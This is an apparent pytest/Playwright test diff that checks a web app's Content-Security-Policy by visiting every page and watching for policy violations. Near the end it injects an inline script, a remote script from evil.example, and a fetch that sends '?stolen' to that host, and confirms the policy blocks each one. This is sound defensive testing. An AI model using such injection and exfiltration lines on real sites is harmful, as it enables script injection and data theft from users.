@@ -1,0 +1,114 @@
+"""The Content-Security-Policy, as Chromium holds every page to it."""
+
+import os
+import subprocess
+import sys
+from contextlib import contextmanager
+from urllib.parse import urlsplit
+
+import pytest
+from playwright.sync_api import Browser, Page, expect
+
+from lumira.embedded import free_port
+from tests.browser.conftest import _is_ready, settle
+from tests.conftest import wait_until
+
+pytestmark = pytest.mark.browser
+
+# Streamlit looks for the address it is mounted at, here too; the page is none the worse for it.
+PROBES = ("/_stcore/health", "/_stcore/host-config")
+VIOLATIONS = """document.addEventListener("securitypolicyviolation", event => console.error(
+    `${event.violatedDirective} forbids ${event.blockedURI} in ${event.sourceFile}:${event.lineNumber}`))"""
+# Each page, and something of it that is there only once its last part has loaded.
+PAGES = {
+    "/overview": "a[href^='order?id=']",
+    "/orders": "[data-testid=stDataFrame] canvas",
+    "/new-payment": "[data-testid=stMainBlockContainer] button",
+    "/revenue": ".js-plotly-plot .bars",
+    "/month-close": "[data-testid=stMainBlockContainer] button",
+    "/webhooks": "[data-testid=stMainBlockContainer] button",
+    "/reconciliation": "[data-testid=stMainBlockContainer] button",
+    "/account": "h1",
+    "/staff": "h1",
+    "/system": "h1",
+}
+
+
+@contextmanager
+def demo(home):
+    """A demo, whose pages have orders to show."""
+    port = free_port()
+    environment = {**os.environ, "LUMIRA_HOME": str(home), "LUMIRA_PORT": str(port)}
+    with (home / "run.log").open("wb") as log:
+        process = subprocess.Popen(
+            [sys.executable, "-m", "lumira", "run", "--demo"],
+            env=environment,
+            stdout=log,
+            stderr=subprocess.STDOUT,
+        )
+        url = f"http://127.0.0.1:{port}"
+        try:
+            wait_until(lambda: _is_ready(url) or process.poll() is not None)
+            assert process.poll() is None, (home / "run.log").read_text()
+            yield url
+        finally:
+            process.terminate()
+            process.wait(timeout=30)
+
+
+def test_no_page_asks_for_what_its_policy_forbids(chromium: Browser, tmp_path):
+    complaints: list[str] = []
+    with demo(tmp_path) as url:
+        context = chromium.new_context(locale="fr-FR", viewport={"width": 1440, "height": 1000})
+        context.set_default_timeout(60_000)
+        context.add_init_script(VIOLATIONS)
+        page = context.new_page()
+        listen(page, complaints)
+
+        for path, part in PAGES.items():
+            page.goto(url + path)
+            settle(page)
+            expect(page.locator(part).first).to_be_attached()
+
+        # A file, which comes as one; a popover, a dialog, a light that is changed.
+        page.goto(f"{url}/orders")
+        settle(page)
+        page.get_by_role("button", name="Exporter").click()
+        with page.expect_download() as download:
+            page.get_by_test_id("stPopoverBody").get_by_role("button", name="CSV").click()
+        assert download.value.path().stat().st_size > 0
+        page.keyboard.press("Escape")
+        page.goto(f"{url}/overview")
+        settle(page)
+        order = page.locator("a[href^='order?id=']").first.get_attribute("href")
+        page.goto(f"{url}/{order}")
+        settle(page)
+        expect(page.locator("h1")).to_be_attached()
+
+        # What would be an attack: a script in the page, one from elsewhere, and text that becomes one.
+        assert complaints == []
+        page.evaluate(
+            """() => {
+                const inline = document.createElement("script")
+                inline.textContent = "window.attacked = true"
+                const foreign = document.createElement("script")
+                foreign.src = "https://evil.example/x.js"
+                document.body.append(inline, foreign)
+                fetch("https://evil.example/?stolen").catch(() => {})
+            }"""
+        )
+        page.wait_for_timeout(300)
+        assert page.evaluate("window.attacked") is None
+        assert sum("forbids" in complaint for complaint in complaints) == 3, complaints
+        context.close()
+
+
+def listen(page: Page, complaints: list[str]) -> None:
+    """Notes whatever the page complains about."""
+
+    def note(message) -> None:
+        if message.type == "error" and not urlsplit(message.location["url"]).path.endswith(PROBES):
+            complaints.append(f"{page.url}: {message.text}")
+
+    page.on("console", note)
+    page.on("pageerror", lambda error: complaints.append(f"{page.url}: {error}"))
